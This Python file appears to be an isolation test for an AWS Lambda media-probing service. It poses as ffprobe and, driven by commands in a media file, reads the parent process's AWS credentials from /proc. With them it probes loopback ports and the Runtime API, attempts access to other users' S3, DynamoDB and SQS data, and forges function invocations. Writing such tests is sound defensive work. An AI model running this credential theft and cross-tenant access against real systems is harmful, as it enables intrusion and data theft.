"""Replaces ffprobe, as if a malicious file had taken it over. The bytes of such a file are commands in JSON; any other file gets
an ordinary description. The results are printed as a tag of the file.

It uses everything that a child process of probe-file can access: /proc, the loopback interface, the Runtime API, and credentials.
"""

import datetime
import hashlib
import hmac
import json
import os
import signal
import socket
import sys
import urllib.error
import urllib.parse
import urllib.request


def describe(tags):
    stream = {"index": 0, "codec_name": "h264", "codec_type": "video", "width": 64, "height": 48}
    print(json.dumps({"format": {"format_name": "stand_in", "tags": tags}, "streams": [stream], "chapters": []}))


class Attack:
    """Executes the commands, and records the results."""

    def __init__(self, commands, media):
        self.commands, self.media = commands, media
        self.environment = self.parents_environment()
        self.found, self.leaks = {}, []

    @staticmethod
    def parents_environment():
        """The environment of the function, which is the parent process."""
        with open(f"/proc/{os.getppid()}/environ", "rb") as file:
            pairs = file.read().decode(errors="replace").split("\0")
        return dict(pair.split("=", 1) for pair in pairs if "=" in pair)

    def heard(self, what, text):
        if self.commands["marker"] in text and what != "own":  # the own file contains the marker in its commands
            self.leaks.append(what)

    def send(self, what, request, timeout=10):
        """The status, body and headers of a response. A body with the marker of another's file is a leak."""
        try:
            with urllib.request.urlopen(request, timeout=timeout) as response:
                status, body, headers = response.status, response.read(), response.headers
        except urllib.error.HTTPError as error:
            status, body, headers = error.code, error.read(), error.headers
        except (OSError, urllib.error.URLError) as error:
            return 0, str(error), {}
        text = body.decode(errors="replace")
        self.heard(what, text)
        return status, text, headers

    def signed(self, what, service, method, path, query="", body=b"", headers=None):
        """Sends a request signed with the function's credentials, by Signature Version 4."""
        endpoint = self.environment["AWS_ENDPOINT_URL_" + service.upper()]
        host, now = endpoint.split("://")[1], datetime.datetime.now(datetime.timezone.utc)
        date, region = now.strftime("%Y%m%dT%H%M%SZ"), self.environment["AWS_REGION"]
        headers = dict(headers or {})
        headers |= {"host": host, "x-amz-date": date, "x-amz-content-sha256": hashlib.sha256(body).hexdigest()}
        if token := self.environment.get("AWS_SESSION_TOKEN"):
            headers["x-amz-security-token"] = token
        names = ";".join(sorted(headers))
        lines = "".join(f"{name}:{headers[name]}\n" for name in sorted(headers))
        canonical = "\n".join([method, path, query, lines, names, headers["x-amz-content-sha256"]])
        scope = f"{date[:8]}/{region}/{service}/aws4_request"
        text = "\n".join(["AWS4-HMAC-SHA256", date, scope, hashlib.sha256(canonical.encode()).hexdigest()])
        key = ("AWS4" + self.environment["AWS_SECRET_ACCESS_KEY"]).encode()
        for part in (*scope.split("/"), text):
            key = hmac.new(key, part.encode(), hashlib.sha256).digest()
        credential = f"{self.environment['AWS_ACCESS_KEY_ID']}/{scope}"
        headers["authorization"] = (
            f"AWS4-HMAC-SHA256 Credential={credential}, SignedHeaders={names}, Signature={key.hex()}"
        )
        url = endpoint + path + ("?" + query if query else "")
        request = urllib.request.Request(url, data=body or None, method=method, headers=headers)
        return self.send(what, request)

    def note(self, what, status):
        self.found[what] = status

    def listen_on_loopback(self):
        """Sends a request without credentials to every listening port."""
        reached = 0
        with open("/proc/net/tcp", encoding="ascii") as file:
            rows = [line.split() for line in file.readlines()[1:]]
        for port in sorted({int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}):
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.3) as connection:
                    connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    self.heard(f"port {port}", connection.recv(65536).decode(errors="replace"))
                    reached += 1
            except OSError:
                pass
        self.note("ports", reached)

    def runtime_api(self):
        base = f"http://{self.environment['AWS_LAMBDA_RUNTIME_API']}/2018-06-01/runtime/invocation/"
        request = urllib.request.Request(base + "00000000-0000-7000-8000-000000000000/response", data=b"{}")
        self.note("runtime: another's response", self.send("runtime", request)[0])
        self.note("runtime: next event", self.send("runtime", base + "next", timeout=0.5)[0])

    def s3(self):
        bucket, victim, own = (self.commands[name] for name in ("bucket", "victim", "own"))
        for method, key, body in [
            ("GET", victim, b""),
            ("HEAD", victim, b""),
            ("PUT", victim, b"x"),
            ("DELETE", victim, b""),
            ("GET", own, b""),
            ("GET", victim.replace("files/", "probes/"), b""),
        ]:
            self.note(f"s3: {method} {key}", self.signed(f"s3 {method}", "s3", method, f"/{bucket}/{key}", body=body)[0])
        self.note("s3: list", self.signed("s3 list", "s3", "GET", f"/{bucket}", "list-type=2")[0])

    def json_call(self, service, target, body, version="1.0"):
        headers = {"x-amz-target": target, "content-type": f"application/x-amz-json-{version}"}
        return self.signed(target, service, "POST", "/", body=json.dumps(body).encode(), headers=headers)

    def dynamodb(self):
        table, pk = self.commands["table"], {"S": self.commands["victim_pk"]}
        key = {"pk": pk, "sk": {"S": self.commands["victim_sk"]}}
        update = {"UpdateExpression": "SET #n = :n", "ExpressionAttributeNames": {"#n": "name"}}
        update |= {"ExpressionAttributeValues": {":n": {"S": "x"}}}
        query = {"KeyConditionExpression": "pk = :pk", "ExpressionAttributeValues": {":pk": pk}}
        for operation, body in [
            ("GetItem", {"Key": key}),
            ("Query", query),
            ("Scan", {}),
            ("PutItem", {"Item": key}),
            ("UpdateItem", {"Key": key} | update),
            ("DeleteItem", {"Key": key}),
        ]:
            status, text, _ = self.json_call("dynamodb", f"DynamoDB_20120810.{operation}", {"TableName": table} | body)
            self.note(f"dynamodb: {operation}", "AccessDenied" if "AccessDeniedException" in text else status)

    def sqs(self):
        for queue, url in self.commands["queues"].items():
            for operation, body in [("SendMessage", {"MessageBody": "{}"}), ("ReceiveMessage", {"WaitTimeSeconds": 0})]:
                status, text, _ = self.json_call("sqs", f"AmazonSQS.{operation}", {"QueueUrl": url} | body)
                denied = status in (400, 403) and "AccessDenied" in text
                self.note(f"sqs: {operation} {queue}", "AccessDenied" if denied else status)

    def invoke(self, function, payload):
        path = f"/2015-03-31/functions/{function}/invocations"
        body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        status, text, headers = self.signed(f"invoke {function}", "lambda", "POST", path, body=body)
        failed = "x-amz-function-error" in headers
        return f"{status} {'failed' if failed else text}"

    def others(self):
        for function in self.commands["functions"]:
            self.note(f"invoke: {function}", self.invoke(function, {}).split()[0])

    def report(self, key, etag, comment="forged"):
        media = {"media_type": "audio", "summary": {"width": 1, "height": 1, "duration": 1.0, "format_name": "forged"}}
        media |= {"facts": {}, "full": {"format": {"c": comment}, "streams": [], "chapters": []}, "partial": None}
        report = {"key": key, "etag": etag, "content_type": "text/html", "ffprobe": "9.9.9 (forged)"}
        return {"finish": report | {"found": {"media": media}}}

    def forge(self):
        """Sends forged requests to probe-record."""
        function, commands = self.environment["FILES_PROBE_RECORD_FUNCTION"], self.commands
        large = "".join(hashlib.sha256(str(n).encode()).hexdigest() for n in range(12_000))
        for what, payload in {
            "victim": {"begin": {"key": commands["victim"]}},
            "victim, right etag": self.report(commands["victim"], commands["victim_etag"]),
            "victim, large": self.report(commands["victim"], commands["victim_etag"], large),
            "victim, wrong etag": self.report(commands["victim"], '"forged"'),
            "no key": {"begin": {"key": commands["victim"].replace("files/", "probes/")}},
            "no request": {"delete": {"key": commands["victim"]}},
            "no JSON": b"\xff",
            "pending": self.report(commands["pending"], '"forged"'),
            "own, wrong etag": self.report(commands["own"], '"forged"'),
        }.items():
            self.note(f"probe-record: {what}", self.invoke(function, payload))
        granted = json.loads(self.invoke(function, {"begin": {"key": commands["own"]}}).split(" ", 1)[1])
        url = granted["probe"]["url"]
        self.note("the own file", self.send("own", url)[1] == self.media)
        other = url.replace(commands["own"], commands["victim"])
        self.note("the URL for another file", self.send("other", other)[0])
        for method in ("PUT", "DELETE"):
            request = urllib.request.Request(url, data=b"x" if method == "PUT" else None, method=method)
            self.note(f"the URL for a {method}", self.send("other", request)[0])


def main():
    if sys.argv[1:] == ["-version"]:
        print("ffprobe version 7.1.5 Copyright")
        return
    with urllib.request.urlopen(sys.argv[-1]) as response:
        media = response.read().decode(errors="replace")
    try:
        commands = json.loads(media)
    except ValueError:
        return describe({})
    if commands.get("die"):
        os.kill(os.getpid(), signal.SIGSEGV)
    attack = Attack(commands, media)
    for step in (attack.listen_on_loopback, attack.runtime_api, attack.s3, attack.dynamodb, attack.sqs, attack.others):
        step()
    attack.forge()
    describe({"found": json.dumps(attack.found), "leaks": json.dumps(attack.leaks)})


main()
